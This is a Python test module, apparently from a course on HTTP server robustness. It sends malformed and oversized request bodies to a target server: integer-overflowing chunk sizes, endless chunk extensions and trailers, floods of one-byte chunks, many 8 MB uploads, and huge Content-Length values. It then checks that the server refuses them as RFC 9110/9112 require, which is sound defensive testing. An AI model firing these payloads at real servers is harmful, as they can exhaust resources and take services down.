"""Attacks by bodies: sizes that overflow, chunks without end, and answers that come early."""

import socket
import time
from contextlib import ExitStack, suppress

from course.attack.beside import Beside
from course.attack.floods import refused, status_of
from course.attack.messages import post
from course.attack.slow import NO_CHUNKS, milliseconds
from course.attack.talking import Talk, talk, whole
from course.attack.verdicts import MEGABYTE, DoesNotApply, Falls, attack, listed
from course.attack.victim import Victim
from course.endings import Ending

CHUNKED = "Transfer-Encoding: chunked"

OVERFLOWS = {
    "2^63": b"8000000000000000",
    "2^64-1": b"FFFFFFFFFFFFFFFF",
    "2^64+5": b"10000000000000005",
    "2^32+5, in 40 digits": b"0" * 31 + b"100000005",
    "-5": b"-5",
    "200 digits": b"F" * 200,
}
"""Chunk sizes; 2^64+5 is 5 where a program counts in 64 bits, 2^32+5 where it does in 32."""

TRICKLE = 200_000

FIVE_MEGABYTES = 5 * MEGABYTE
EIGHT_MEGABYTES = 8 * MEGABYTE
ANSWER_SECONDS = 0.02
"""How long we look for an answer that need not come."""


@attack("chunk-overflow", "RFC 9112, 7.1")
def chunk_overflow(victim: Victim) -> str:
    """Chunk sizes of 2^63 and more, which overflow where a program counts in 64 bits."""
    if not victim.can.chunked:
        raise DoesNotApply(NO_CHUNKS)
    wrong = []
    for name, size in OVERFLOWS.items():
        body = size + b"\r\nhello\r\n0\r\n\r\n"
        statuses = victim.ask(post(victim.can.posts, body, CHUNKED)).statuses
        if not statuses or not 400 <= statuses[0] < 500:
            wrong.append(f"{name}: {statuses[0] if statuses else 'no answer'}")
    if wrong:
        raise Falls(listed(wrong))
    return f"{len(OVERFLOWS)} sizes refused at once"


@attack("endless-chunks", "RFC 9112, 7.1.1")
def endless_chunks(victim: Victim) -> str:
    """Digits, chunk extensions, trailers and chunks without end."""
    if not victim.can.chunked:
        raise DoesNotApply(NO_CHUNKS)
    start = post(victim.can.posts, b"", CHUNKED)
    seen = [
        f"{name}: {refused(victim, start + opening, piece, 413, 400, 431)}"
        for name, opening, piece in (
            ("digits", b"", b"0" * 4096),
            ("an extension", b"1;a=", b"b" * 4096),
            ("extensions", b"", b"1;a=bcdefghijklmnop\r\nx\r\n" * 100),
            ("trailers", b"0\r\n", b"X-Flood: y\r\n" * 100),
            ("chunks", b"", b"10000\r\n" + bytes(65536) + b"\r\n"),
        )
    ]
    return "; ".join(seen)


@attack("tiny-chunks", "RFC 9112, 7.1")
def tiny_chunks(victim: Victim) -> str:
    """A body of 200,000 chunks of one byte each, while good clients ask."""
    if not victim.can.chunked:
        raise DoesNotApply(NO_CHUNKS)
    began = time.monotonic()
    request = post(victim.can.posts, b"1\r\nx\r\n" * TRICKLE + b"0\r\n\r\n", CHUNKED)
    with Beside(victim) as others:
        said = victim.say(request, enough=lambda got: b"\r\n\r\n" in got)
    took, worst, status = time.monotonic() - began, others.worst(), status_of(said)
    if not status or status >= 500:
        raise Falls(f"the answer was {status or 'none'}")
    return f"{status} after {took:.1f} s; a good client waited {milliseconds(worst)} at most"


@attack("many-bodies", "RFC 9110, 15.5.14")
def many_bodies(victim: Victim) -> str:
    """40 clients announce 8 MB each, and send all of them but the last byte."""
    sent, worst = 0, 0.0
    statuses: set[int] = set()
    length = f"Content-Length: {EIGHT_MEGABYTES}"
    request = post(victim.can.posts, bytes(EIGHT_MEGABYTES - 1), length)
    with ExitStack() as stack:
        for _ in range(40):
            connection = stack.enter_context(victim.connect())
            connection.settimeout(victim.settings.talk)
            sent += sent_deaf(connection, request)
            said = talk(connection, (), ANSWER_SECONDS, lambda got: b"\r\n\r\n" in got)
            statuses.add(status_of(said))
            worst = max(worst, victim.good())
    how = "413 to all" if statuses == {413} else f"{sent // MEGABYTE} MB of bodies were let in"
    return f"{how}; a good client waited {milliseconds(worst)} at most"


@attack("huge-body", "RFC 9110, 15.5.14")
def huge_body(victim: Victim) -> str:
    """A body of 10 GB is announced, or one whose length has 30 digits; 1 MB of it is sent."""
    for length in (10 * 1024**3, 10**29):
        for some in (0, MEGABYTE):
            request = post(victim.can.posts, bytes(some), f"Content-Length: {length}")
            said = deaf_until_sent(victim, request)
            status = status_of(said)
            if status != 413 or said.ending is Ending.RESET:
                what = status or "no answer"
                how = " and a reset" if said.ending is Ending.RESET else ""
                raise Falls(f"{length:.0e} bytes announced, {some:,} of them sent: {what}{how}")
    return "413 at once, four times"


@attack("early-error", "RFC 9112, 9.6")
def early_error(victim: Victim) -> str:
    """An error that is clear from the head must reach a client that still sends 5 MB."""
    request = post(victim.can.posts, bytes(FIVE_MEGABYTES), "Content-Length: 5242880x")
    for number in range(1, 4):
        said = deaf_until_sent(victim, request)
        if not 400 <= status_of(said) < 500 or said.ending is Ending.RESET:
            what = status_of(said) or "no answer"
            how = " and a reset" if said.ending is Ending.RESET else ""
            raise Falls(f"at attempt {number}, {said.sent:,} bytes sent: {what}{how}")
    return f"{status_of(said)} arrived, three times"


def deaf_until_sent(victim: Victim, request: bytes) -> Talk:
    """Be a client that reads nothing before it has sent all, as many simple ones are.

    Where the server resets meanwhile, that is the ending, whatever came before it: one system
    still hands out the answer, another one has thrown it away (RFC 9112, section 9.6).
    """
    with victim.connect() as connection:
        connection.settimeout(victim.slow_seconds)
        sent = sent_deaf(connection, request)
        said = talk(connection, (), victim.settings.talk, whole())
    said.sent = sent
    if sent < len(request):
        said.ending = Ending.RESET
    return said


def sent_deaf(connection: socket.socket, request: bytes) -> int:
    """Send, and do not read: how many bytes somebody took."""
    sent = 0
    with suppress(OSError):
        while sent < len(request):
            sent += connection.send(memoryview(request)[sent:])
    return sent
